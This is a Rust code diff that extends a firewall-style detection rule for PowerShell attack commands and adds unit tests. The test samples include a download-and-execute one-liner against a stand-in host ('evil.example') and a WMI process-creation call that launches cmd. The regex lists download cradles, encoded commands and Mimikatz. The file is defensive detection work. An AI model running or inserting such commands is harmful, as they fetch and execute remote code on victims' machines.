@@ -264,7 +264,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             ATTACK,
             CMD,
             Regex(
-                r##"\b(?:invoke-(?:expression|webrequest|command|shellcode|mimikatz)|iex\s*\(|new-object\s+(?:net\.webclient|system\.net)|downloadstring\s*\(|downloadfile\s*\(|start-process\b|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|set-mppreference\b|start-sleep\s+(?:-s(?:econds)?\s+|-m(?:illiseconds)?\s+)?\d|get-wmiobject\b|(?:get-content|get-childitem)\s+[a-z]:)"##,
+                r##"(?:^|[;|&\n\r(`])\s*(?:iwr|irm|iwmi|icm)\s+(?:https?://|-[a-z])|\b(?:invoke-(?:expression|webrequest|restmethod|wmimethod|command|shellcode|mimikatz)|iex\s*\(|new-object\s+(?:net\.webclient|system\.net)|downloadstring\s*\(|downloadfile\s*\(|start-process\b|-encodedcommand\b|-enc\s+[a-z0-9+/=]{16,}|frombase64string\s*\(|set-mppreference\b|start-sleep\s+(?:-s(?:econds)?\s+|-m(?:illiseconds)?\s+)?\d|get-wmiobject\b|(?:get-content|get-childitem)\s+[a-z]:)"##,
             ),
             "PowerShell command",
         ),
@@ -576,6 +576,25 @@ mod tests {
         assert!(fires(932120, "; Start-Sleep -s 5"));
         assert!(fires(932120, "powershell start-sleep 10"));
         assert!(!fires(932120, "start sleeping at 10"));
+    }
+
+    #[test]
+    fn powershell_aliases_as_commands_fire_but_the_letters_in_prose_do_not() {
+        for a in [
+            ";iwr http://example.com/path/file.ps1",
+            "iwmi -class Win32_process -name Create -ArgumentList cmd",
+            "| irm https://evil.example/x | iex",
+            "Invoke-WmiMethod -Class Win32_Process -Name Create",
+        ] {
+            assert!(fires(932120, a), "missed {a:?}");
+        }
+        for b in [
+            "IWR is a unit",
+            "see the icm -- conference",
+            "firmware irm http",
+        ] {
+            assert!(!fires(932120, b), "flagged {b:?}");
+        }
     }
 
     #[test]
